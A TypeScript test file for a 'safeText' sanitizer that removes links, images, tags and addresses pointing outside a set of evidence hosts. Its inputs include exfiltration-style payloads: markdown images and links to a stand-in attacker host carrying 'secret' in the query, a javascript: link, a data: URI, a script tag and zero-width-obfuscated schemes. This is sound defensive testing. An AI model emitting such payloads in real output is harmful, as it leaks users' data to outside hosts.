import fc from 'fast-check';
import { safeText } from './safe-text.ts';

const EVIDENCE = [
  'The guide stands at https://docs.example.com/keys?lang=sv, and mirrors at //cdn.example.net/keys.',
  'Badges: ![build](https://img.example.org/build.svg) and [home](https://home.example.org/).',
];

describe('what stays in a claim', () => {
  it.each([
    'Plain words, with 3 < 4 and a/b paths such as src/server.ts.',
    'See https://docs.example.com/keys?lang=sv.',
    'See [the guide](https://docs.example.com/keys?lang=sv) for more.',
    'See [keys](docs/keys.md) and [below](#keys).',
    'Mirrors: //cdn.example.net/keys',
    'Ratio 1:2, time 10:30, `map<string, int>` and a[0](b).',
    'Badges: ![build](https://img.example.org/build.svg) and [home](https://home.example.org/).',
  ])('%s', (text) => expect(safeText(text, EVIDENCE)).toEqual({ text, dropped: 0 }));
});

describe('what goes out of a claim', () => {
  it.each([
    ['an image, even from a host of the evidence', 'A ![x](https://img.example.org/build.svg) b', 'A x b'],
    ['an image with something in its address', '![](https://evil.example/p.png?q=secret)', ''],
    ['a link to a host outside', 'Go [here](https://evil.example/?d=secret) now', 'Go here now'],
    [
      'a host of the evidence with an address of its own',
      'At https://docs.example.com/keys?d=secret',
      'At docs.example.com',
    ],
    ['a bare address', 'At https://evil.example/secret.', 'At evil.example.'],
    ['an address without a scheme', 'At //evil.example/secret', 'At evil.example'],
    ['another scheme', 'At ftp://evil.example/secret', 'At evil.example'],
    ['a user name before the host', 'https://docs.example.com@evil.example/secret', 'evil.example'],
    ['code in a link', '[run](javascript:alert(1))', 'run)'],
    ['content in a link', '[open](data:text/html;base64,AAAA)', 'open'],
    ['mail', '[write](mailto:a@evil.example?body=secret)', 'write'],
    ['angle brackets', '[here](<https://evil.example/secret>)', 'here'],
    ['a title', '[here](https://evil.example/secret "title")', 'here'],
    ['a reference', 'See [a][1].\n\n[1]: https://evil.example/secret', 'See [a][1].'],
    ['a tag', 'x <img src="https://evil.example/secret"> y', 'x  y'],
    ['a tag that hides what follows', '<script>fetch("x")</script>', 'fetch("x")'],
  ])('%s', (_, text, left) => {
    const safe = safeText(text, EVIDENCE);
    expect(safe.text).toBe(left);
    expect(safe.dropped).toBeGreaterThan(0);
  });

  it('hidden characters, which could hold a part of an address', () => {
    expect(safeText('ht\u200btps://evil.example/x', EVIDENCE)).toEqual({ text: 'evil.example', dropped: 1 });
    expect(safeText('a\u{e0041}b', EVIDENCE)).toEqual({ text: 'ab', dropped: 0 });
  });

  it('an image within a link', () => {
    const { text } = safeText('[![x](https://evil.example/a)](https://evil.example/b)', EVIDENCE);
    expect(text).not.toMatch(/\/\/|!\[|\]\(http/);
  });
});

describe('of anything at all', () => {
  const part = fc.constantFrom(
    'https://',
    '//',
    'evil.example',
    'docs.example.com',
    '/secret',
    '![',
    ']',
    '(',
    ')',
    '[a]',
    ':',
    ' ',
    '\n',
    '<img src=',
    '>',
    '"',
    '@',
    '\u200b',
    '<',
    '?q=',
  );

  it('no address outside of the evidence is left', () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const { text } = safeText(parts.join(''), EVIDENCE);
        expect(text).not.toMatch(/(?:https?:)?\/\/[^\s/?#<>"'`()[\]\\:@]*evil\.example\/secret/);
        expect(text).not.toMatch(/!\[[^\]]*\]\([^)]*\)/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('cleaning twice changes nothing more, and long texts are quick', () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const once = safeText(parts.join(''), EVIDENCE).text;
        expect(safeText(once, EVIDENCE).text).toBe(once);
      }),
    );
    for (const piece of ['[', '![', '//', '<a ', 'a:', '](', '[a](']) safeText(piece.repeat(20_000), EVIDENCE);
  });
});
